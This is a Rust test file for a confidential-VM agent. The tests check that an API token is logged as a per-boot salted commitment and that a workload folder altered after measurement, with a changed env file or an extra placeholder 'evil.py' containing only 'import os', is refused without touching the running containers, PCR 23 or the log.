#[tokio::test]
async fn the_api_token_is_committed_with_a_fresh_salt_per_boot() {
    let mut events = Vec::new();
    for _ in 0..2 {
        let vm = MeasureOnly::start("token\n", |config| config).await;
        let log = vm.agent.state.workloads.measured().await.log;
        let event = log
            .events
            .iter()
            .find(|e| e.kind == EventKind::ApiToken)
            .cloned()
            .expect("an api-token event");
        let salt = TokenCommitment::salt_of(&event).expect("a salt");
        assert_eq!(TokenCommitment::new(salt, TOKEN).event(), event);
        assert_ne!(event.payload_digest, Sha256Digest::of(TOKEN.as_bytes()));
        events.push(event);
    }
    assert_ne!(events[0].payload, events[1].payload);
    assert_ne!(events[0].payload_digest, events[1].payload_digest);
}

/// Containers of the workload project, sorted: (service, id, state).
async fn containers(vm: &TestVm) -> Vec<(String, String, String)> {
    let engine = vm.agent().state.workloads.engine().unwrap();
    let mut list = engine
        .project_containers(cvm_agent::workload::PROJECT)
        .await
        .unwrap();
    list.sort();
    list
}

/// Attack: change the workload folder behind the agent's back, then make it start again. The
/// agent measures the folder again right before `compose up`, refuses, names the difference,
/// and leaves the running containers, PCR 23 and the log as they were.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_workload_changed_behind_the_agents_back_is_not_started() {
    let mut vm = TestVm::boot(EngineKind::Docker, &fresh("measured")).await;
    wait_for_log(&vm, "measured").await;
    let before = containers(&vm).await;
    assert!(
        before.iter().all(|(_, _, state)| state == "running"),
        "{before:?}"
    );
    let pcr = vm.pcr23().await;
    let log = vm.agent().state.workloads.measured().await.log;
    let env_file = vm.workload_dir().join("app.env");
    let original = std::fs::read(&env_file).unwrap();

    // An env file changes what the container gets: compose up would recreate it.
    let tampered = [
        original.clone(),
        fresh("EVIL=").replace(' ', "").into_bytes(),
    ]
    .concat();
    let evil_file = vm.workload_dir().join("evil.py");
    let tampers: [(&dyn Fn(), &str); 2] = [
        (
            &|| std::fs::write(&env_file, &tampered).unwrap(),
            "env-file \"app.env\" changed",
        ),
        (
            &|| {
                std::fs::write(&env_file, &original).unwrap();
                std::fs::write(&evil_file, "import os\n").unwrap();
            },
            "file \"evil.py\" is not in the golden measurement",
        ),
    ];
    for (tamper, named) in tampers {
        drop(vm.agent.take());
        tokio::time::sleep(Duration::from_millis(300)).await;
        tamper();
        assert_eq!(vm.start_agent().await, StartKind::Restored);
        let refused = vm.agent().state.workloads.refused().await;
        let refused = refused.expect("the changed folder was started");
        assert!(refused.contains(named), "{refused}");
        assert!(
            refused.contains("not the workload last measured"),
            "{refused}"
        );
        assert_eq!(containers(&vm).await, before, "the containers were touched");
        assert_eq!(vm.pcr23().await, pcr);
        assert_eq!(vm.agent().state.workloads.measured().await.log, log);
    }

    // Put back exactly as measured: it starts again.
    std::fs::remove_file(&evil_file).unwrap();
    drop(vm.agent.take());
    tokio::time::sleep(Duration::from_millis(300)).await;
    assert_eq!(vm.start_agent().await, StartKind::Restored);
    assert_eq!(vm.agent().state.workloads.refused().await, None);
    assert_eq!(containers(&vm).await, before);
}
